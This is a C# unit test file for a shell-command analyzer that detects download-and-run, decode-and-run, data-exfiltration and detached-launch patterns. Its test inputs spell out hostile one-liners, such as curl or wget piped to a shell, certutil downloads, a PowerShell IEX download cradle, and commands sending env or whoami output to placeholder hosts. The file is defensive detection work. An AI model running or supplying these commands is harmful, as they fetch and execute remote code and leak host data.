using Moat.Analysis.Code.Commands;
using Moat.Analysis.Text;

namespace Moat.Analysis.Tests.Code;

public class ShellCommandTests
{
    [Fact]
    public void Quotes_escapes_and_operators_split_into_simple_commands()
    {
        var commands = ShellWords.Parse("echo 'a b' \"c \\\"d\\\"\" e\\ f | base64 -d && cmd ^& x; last &");
        Assert.Equal(["echo", "a b", "c \"d\"", "e f"], commands[0].Argv);
        Assert.Equal("|", commands[0].Next);
        Assert.Equal(["base64", "-d"], commands[1].Argv);
        Assert.Equal("&&", commands[1].Next);
        Assert.Equal(["cmd", "&", "x"], commands[2].Argv);
        Assert.Equal(["last"], commands[3].Argv);
        Assert.Equal("&", commands[3].Next);
    }

    [Fact]
    public void Redirections_stay_words_and_substitutions_stay_whole()
    {
        var commands = ShellWords.Parse("curl https://a.invalid/$(whoami | base64) 2>&1 >/dev/null");
        Assert.Single(commands);
        Assert.Equal(["curl", "https://a.invalid/$(whoami | base64)", "2>&1", ">/dev/null"], commands[0].Argv);
    }

    [Theory]
    [InlineData("curl -s https://x.invalid/a.sh | sh")]
    [InlineData("curl -s https://paste.example.invalid/raw/abc | python3 > /dev/null 2>&1 &")]
    [InlineData("wget -O /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a")]
    [InlineData("cmd /c \"certutil -urlcache -split -f https://x.invalid/a.exe a.exe & a.exe\"")]
    [InlineData("bash -c 'curl -fsSL https://x.invalid/i | bash'")]
    public void Download_then_run_is_seen(string line) => Assert.NotNull(ShellCommand.Analyze(line).DownloadRun);

    /// <summary>cmd.exe /c runs what is inside a command line that is one quoted string; a quoted program path is not that.</summary>
    [Fact]
    public void A_command_line_wrapped_in_one_pair_of_quotes_is_its_inner_command()
    {
        Assert.NotNull(ShellCommand.Analyze("\"curl.exe -OLJ https://files.example.invalid/tool.exe\"").Download);
        // A quoted program path followed by quoted arguments is several words, not one wrapped command line.
        Assert.Null(ShellCommand.Analyze("\"C:/Program Files/Tool/tool.exe\" --fetch \"curl https://files.example.invalid/a\"").Download);
    }

    [Theory]
    [InlineData("echo aGVsbG8= | base64 -d | bash")]
    [InlineData("echo {} |base64 --decode|sh")]
    public void Decode_then_run_is_seen(string line) => Assert.NotNull(ShellCommand.Analyze(line).DecodeRun);

    [Theory]
    [InlineData("curl https://x.invalid/$(env | base64 -w 0)")]
    [InlineData("nslookup $(whoami).x.invalid")]
    [InlineData("curl -d \"u=$USER\" https://x.invalid/")]
    [InlineData("ping -c 1 %USERNAME%.x.invalid")]
    public void Host_data_sent_out_is_seen(string line) => Assert.NotNull(ShellCommand.Analyze(line).Exfil);

    [Theory]
    [InlineData("start pythonw x.py", true)]
    [InlineData("start /b {} {}", true)]
    [InlineData("nohup python3 payload.py &", true)]
    [InlineData("start notepad.exe", false)]
    public void Detached_launches_are_seen(string line, bool interpreter)
    {
        var facts = ShellCommand.Analyze(line);
        Assert.NotNull(facts.Detached);
        Assert.Equal(interpreter, facts.Interpreter);
    }

    [Fact]
    public void PowerShell_encoded_commands_are_decoded()
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')"));
        var facts = ShellCommand.Analyze($"powershell -nop -w hidden -enc {encoded}");
        Assert.NotNull(facts.DownloadRun);
        Assert.NotNull(facts.Detached);
    }

    [Theory]
    [InlineData("git describe --tags")]
    [InlineData("gcc -o out main.c && ./out --version")]
    [InlineData("echo done > log.txt; make -j4")]
    [InlineData("python setup.py sdist bdist_wheel")]
    public void Ordinary_build_commands_say_nothing(string line) => Assert.False(ShellCommand.Analyze(line).Any);
}
